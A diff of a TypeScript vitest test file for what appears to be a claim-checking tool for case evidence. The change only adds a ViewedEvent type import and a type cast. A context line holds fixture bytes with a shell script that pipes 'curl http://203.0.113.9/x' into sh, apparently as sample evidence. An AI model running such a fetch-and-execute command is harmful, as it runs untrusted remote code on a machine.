@@ -2,7 +2,7 @@
 import { describe, expect, it } from 'vitest'
 import type { Claim, Place } from '../../contract/verdict.ts'
 import { kinds } from '../insights/kinds.ts'
-import type { CaseView } from './case-view.ts'
+import type { CaseView, ViewedEvent } from './case-view.ts'
 import { checkClaim } from './check.ts'
 import { namedIn } from './named.ts'
 
@@ -11,7 +11,7 @@ const bytes = Buffer.from('#!/bin/sh\ncurl http://203.0.113.9/x | sh\n')
 const view: CaseView = {
   events: async (uids) =>
     new Map(
-      [
+      ([
         {
           uid: 'a',
           from: us('2026-03-02T10:00:00Z'),
@@ -37,7 +37,7 @@ const view: CaseView = {
           member: 'EX-001/000001',
         },
         ...Array.from({ length: 30 }, (_, i) => ({ uid: `e${i}`, values: {}, exhibit: 'EX-001', member: 'm' })),
-      ]
+      ] as ViewedEvent[])
         .filter(({ uid }) => uids.includes(uid))
         .map((one) => [one.uid, one]),
     ),
